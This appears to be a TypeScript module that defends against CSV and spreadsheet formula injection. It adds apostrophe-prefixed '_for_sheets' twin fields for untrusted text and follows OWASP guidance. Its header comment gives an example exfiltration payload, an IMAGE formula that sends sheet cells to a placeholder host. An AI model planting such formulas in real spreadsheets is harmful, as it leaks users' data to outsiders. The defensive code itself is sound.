/**
 * Text from strangers stays text in spreadsheets: the one rule for every product that hands items
 * to a sheet or a CSV file (a Zap's Google Sheets row, an n8n CSV). Spreadsheets read a cell that
 * starts with `=`, `+`, `-` or `@` (and, once trimmed, a tab or a carriage return) as a formula:
 * a caption `=IMAGE("https://x/?"&A1)` would send the sheet's cells to a stranger. OWASP's guidance
 * against CSV injection (owasp.org/www-community/attacks/CSV_Injection) is a leading apostrophe for
 * exactly those cells. Google Sheets hides that apostrophe (the cell holds the text); Excel and
 * LibreOffice opening a CSV, and any program reading it, show it.
 *
 * Which fields are a stranger's text is the registry's (`stranger` in schemas.ts). Each gets a twin,
 * `<field>_for_sheets`, beside it: the original stays as the API sent it, for everything that is not a
 * spreadsheet (a Slack message, a CRM note).
 *
 * The Sheets add-on writes through Apps Script, which parses more than formulas (`0012345`, `TRUE`,
 * dates): it prefixes every string it writes (sheets-addon/src/engine/values.ts `entered`), a
 * stricter rule for a writer that controls the cell, not a copy of this one.
 */
import type { Field, Shape } from './registry/types';
import { valueShape } from './shape';

/** The first characters that make a spreadsheet read a cell as a formula (OWASP). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A carriage return not followed by a line feed. */
const LONE_CR = /\r(?!\n)/g;

/**
 * `text` as a spreadsheet keeps it as text: a leading apostrophe only when it starts like a formula,
 * and each lone carriage return as a line feed. CSV writers quote a field that holds a line feed but
 * not always one that holds a lone CR (n8n 2.8.4's Convert to File does not), and CSV readers end the
 * row at it: the text after it, `=1+1` say, would start a row of its own, unguarded.
 */
export const spreadsheetSafe = (text: string): string => {
  const lines = text.replace(LONE_CR, '\n');
  return FORMULA_START.test(text) ? `'${lines}` : lines;
};

/** The name of a field's twin: `caption` -> `caption_for_sheets`, `author.full_name` -> `..._for_sheets`. */
export const TWIN_SUFFIX = '_for_sheets';
export const safeTwinOf = (path: string): string => `${path}${TWIN_SUFFIX}`;

const isStranger = (f: Field): boolean => typeof f === 'object' && 'stranger' in f && f.stranger === true;

/**
 * The dotted paths of a schema's stranger text, as the flattened item names them (`caption`,
 * `author.full_name`, `location.name`); a list's items as `list[].field` (`similar[].full_name`).
 */
export function strangerTextPaths(schema: Shape, prefix = ''): string[] {
  if (typeof schema !== 'object') return [];
  if ('array' in schema) return strangerTextPaths(schema.array, `${prefix}[]`);
  if (!('object' in schema)) return [];
  return Object.entries(schema.object).flatMap(([k, f]) => {
    const path = prefix ? `${prefix}.${k}` : k;
    return isStranger(f) ? [path] : strangerTextPaths(valueShape(f), path);
  });
}

/**
 * An answer's item with a twin after each stranger text field of its schema, at every depth (in
 * lists of objects too). A twin holds `spreadsheetSafe` of a string, and null where the field is
 * null; an absent field gets no twin. The item is copied, never changed.
 */
export function withSafeTwins(schema: Shape, value: unknown): unknown {
  if (typeof schema !== 'object' || value === null || typeof value !== 'object') return value;
  if ('array' in schema) return Array.isArray(value) ? value.map((v) => withSafeTwins(schema.array, v)) : value;
  if (!('object' in schema) || Array.isArray(value)) return value;
  const out: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(value as Record<string, unknown>)) {
    const f = Object.prototype.hasOwnProperty.call(schema.object, k) ? schema.object[k] : undefined;
    if (!f) {
      out[k] = v;
      continue;
    }
    out[k] = isStranger(f) ? v : withSafeTwins(valueShape(f), v);
    if (isStranger(f) && (typeof v === 'string' || v === null))
      out[safeTwinOf(k)] = v === null ? null : spreadsheetSafe(v);
  }
  return out;
}

/**
 * Table columns (dotted paths) with each stranger text column's twin right after it: `caption`,
 * `caption_for_sheets`. A column inside a list is one joined cell (flatten.ts) and gets none.
 */
export function withTwinColumns(schema: Shape, columns: readonly string[]): string[] {
  const stranger = new Set(strangerTextPaths(schema));
  return columns.flatMap((c) => (stranger.has(c) ? [c, safeTwinOf(c)] : [c]));
}
